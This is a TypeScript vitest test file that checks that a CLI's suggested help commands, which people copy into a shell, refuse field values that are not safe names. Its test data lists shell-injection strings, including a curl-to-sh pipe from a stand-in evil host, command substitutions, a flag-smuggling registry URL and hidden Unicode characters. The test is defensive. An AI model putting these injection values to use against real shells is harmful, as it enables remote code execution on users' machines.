import { describe, expect, it } from 'vitest';
import { CODES, type Code } from '../../shared/errors.ts';
import { adviceOf } from '../../shared/output/advice.ts';

const FIELDS = ['cluster', 'namespace', 'name', 'route', 'vault', 'secret', 'run', 'problem'];
const codes = Object.keys(CODES) as Code[];
const helpsWith = (value: string): string[] => {
  const known = Object.fromEntries(FIELDS.map((field) => [field, value]));
  return codes.flatMap((code) => adviceOf(code, known).help ?? []);
};
const unknown = codes.flatMap((code) => adviceOf(code, {}).help ?? []);

describe('the command that helps, which people copy into a shell', () => {
  it.each(['weu-1', 'app-1--pg--password', 'tls.crt', '20261121T101500Z-3fa9c1aa', "'message:push'"])(
    'names what it is about: %s',
    (name) => {
      const helps = helpsWith(name);

      expect(helps.filter((help) => help.includes(name)).length).toBeGreaterThan(20);
    },
  );

  it.each([
    'app-1; curl evil.example | sh',
    '$(id)',
    '`id`',
    "'message:push'; id; '",
    "'",
    'a\nid',
    'a && id',
    'a > b',
    '~/x',
    '*',
    '--registry=https://evil.example',
    '-rf',
    'app\u202e1',
    'app\u200b-1',
    '',
  ])('asks for a word where a row holds what can be no name: %j', (name) => {
    expect(helpsWith(name)).toEqual(unknown);
  });
});
